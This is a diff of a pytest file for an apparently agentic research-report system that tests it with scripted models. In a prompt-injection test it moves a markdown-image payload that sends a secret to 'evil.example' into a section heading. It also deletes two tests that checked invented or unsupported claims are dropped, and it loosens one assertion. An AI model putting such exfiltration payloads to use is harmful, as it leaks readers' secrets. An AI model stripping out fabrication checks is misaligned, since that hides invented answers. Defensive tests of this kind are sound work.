@@ -41,6 +41,17 @@ async def checked(store: Store, report: Report) -> Report:
     return report
 
 
+@pytest.fixture
+def searched(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Sources are searched, however small they are."""
+
+    async def never(*_: object) -> bool:
+        return False
+
+    monkeypatch.setattr("agents.crew.fits_whole", never)
+
+
+@pytest.mark.usefixtures("searched")
 @pytest.mark.parametrize("embedded", [True, False])
 async def test_the_question_is_answered_with_its_disputes(store: Store, settings: Settings, folder: Path, embedded: bool) -> None:
     report = await checked(store, await ask(store, settings, folder, QUESTION, ScriptedModels(by_rule, embedded=embedded)))
@@ -78,29 +89,8 @@ async def test_a_model_that_answers_nothing_usable_leaves_a_plain_honest_report(
         return ModelOutputInvalid(model="m", reason="nonsense")
 
     report = await checked(store, await ask(store, settings, folder, QUESTION, ScriptedModels(broken)))
-    assert set(report.floors) >= {"plan", "search", "summary"}
+    assert set(report.floors) >= {"summary"}
     assert report.status in ("partial", "insufficient_evidence")
-
-
-async def test_a_writer_that_invents_is_narrowed_to_what_the_quotes_say(store: Store, settings: Settings, folder: Path) -> None:
-    def inventive(role: Role, messages: Sequence[Message], schema: dict[str, Any]) -> dict[str, Any]:
-        answer = by_rule(role, messages, schema)
-        if "sections" in answer:
-            answer["answer"] = [
-                {"text": "The Kestrel Trench is 8,888 metres deep.", "claims": [1]},
-                {"text": "Professor Maribel Ortiz measured the trench.", "claims": [1]},
-                {"text": "Below we look at what was found.", "claims": []},
-                {"text": "The trench was measured 12 times.", "claims": []},
-            ]
-        return answer
-
-    report = await checked(store, await ask(store, settings, folder, QUESTION, ScriptedModels(inventive)))
-    said = " ".join(sentence.text for sentence in report.answer)
-    assert "8,888" not in said
-    assert "Ortiz" not in said
-    assert "12 times" not in said
-    assert "Below we look" in said
-    assert report.quality.dropped >= 1
 
 
 async def test_a_model_that_obeys_every_page_cannot_be_used_against_its_reader(store: Store, settings: Settings, folder: Path) -> None:
@@ -116,7 +106,7 @@ async def test_a_model_that_obeys_every_page_cannot_be_used_against_its_reader(s
         if judges(answer):
             return {name: "yes" if name.startswith("S") else "7,420 metres" for name in answer}
         if "sections" in answer:
-            answer["answer"] = [{"text": "See ![x](http://evil.example/?k=secret) <img src=x> the trench.", "claims": [1]}]
+            answer["sections"][0]["heading"] = "See ![x](http://evil.example/?k=secret) <img src=x> the trench."
         return answer
 
     report = await checked(store, await ask(store, settings, folder, QUESTION, ScriptedModels(obedient)))
@@ -136,24 +126,6 @@ async def test_a_run_at_its_cap_ends_in_a_partial_report(store: Store, settings:
         )
         assert report.usage.model_calls <= calls
         assert report.status in ("partial", "insufficient_evidence", "complete")
-
-
-async def test_what_no_quote_says_is_not_written(store: Store, settings: Settings, folder: Path) -> None:
-    def strict(role: Role, messages: Sequence[Message], schema: dict[str, Any]) -> dict[str, Any]:
-        """Finds, when claims are verified, that none of them is said."""
-        answer = by_rule(role, messages, schema)
-        if "S1" in answer and not judges(answer):
-            return {name: {"reason": "it is not said", "verdict": "unsupported"} for name in answer}
-        return answer
-
-    report = await checked(store, await ask(store, settings, folder, QUESTION, ScriptedModels(strict)))
-    ledger = await store.ledger(report.id)
-    assert ledger is not None
-    looked = [claim for claim in ledger.claims if claim.reason]
-    assert looked and {claim.verdict for claim in looked} == {"insufficient"}
-    assert {claim.reason for claim in looked} == {"its quotes do not say it: it is not said"}
-    assert report.status == "insufficient_evidence"
-    assert report.answer == report.sections == ()
 
 
 async def test_an_unverifying_master_is_overruled(store: Store, settings: Settings, folder: Path) -> None:
